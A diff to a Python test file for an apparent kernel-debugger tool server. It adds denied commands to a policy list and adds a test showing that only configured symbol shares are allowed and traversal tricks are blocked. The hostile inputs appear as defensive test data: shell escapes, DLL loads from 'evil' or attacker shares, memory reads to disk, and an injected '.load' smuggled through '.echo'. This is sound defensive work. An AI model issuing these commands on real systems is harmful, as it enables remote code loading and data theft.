@@ -26,6 +26,12 @@ DENIED_UNDER_STANDARD = [
     ('dx Debugger.Utility.Control.ExecuteCommand(".shell")', "host_exec"),
     (".writemem c:\\x 0 10", "file_write"),
     (".detach", "session_ending"),
+    (".readmem c:\\secret.bin fffff800`62a05c20 L100", "host_file_read"),
+    (".sympath+ \\\\attacker\\share", "network_path"),
+    (".sympath symsrv*evil.dll*c:\\sym", "code_load"),
+    ("dx Debugger.Settings.Debug.Advanced.SkipMissing = true", "settings_change"),
+    (".outmask- 1", "output_control"),
+    ('.echo x"; .load \\\\h\\s\\e.dll; "', "code_load"),
     ('aS x ".shell"; ${x}', None),
 ]
 
@@ -64,3 +70,15 @@ async def test_full_allows_everything_and_drops_noshell():
         assert "-noshell" not in started["command_line"]
         result = await client.call_tool("kd_command", {"command": ".shell echo hi"})
         assert not result.is_error  # the simulator answers with a syntax error; the policy let it through
+
+
+async def test_configured_network_roots_let_exactly_those_shares_through():
+    """Teams keep symbols on a share: ``network_roots`` allows it, every other share stays denied."""
+    async with in_memory(make_app(network_roots=["\\\\symbols\\team"])) as client:
+        await _start(client)
+        allowed = await client.call_tool("kd_command", {"command": ".sympath+ \\\\symbols\\team\\x64"})
+        assert not allowed.is_error, allowed.structured_content
+        for command in (".sympath+ \\\\symbols\\teamx", ".sympath+ \\\\symbols\\team\\..\\..\\evil\\s",
+                        ".srcpath \\\\evil\\src"):
+            denied = await client.call_tool("kd_command", {"command": command})
+            assert denied.is_error and "network_path" in denied.structured_content["message"], command
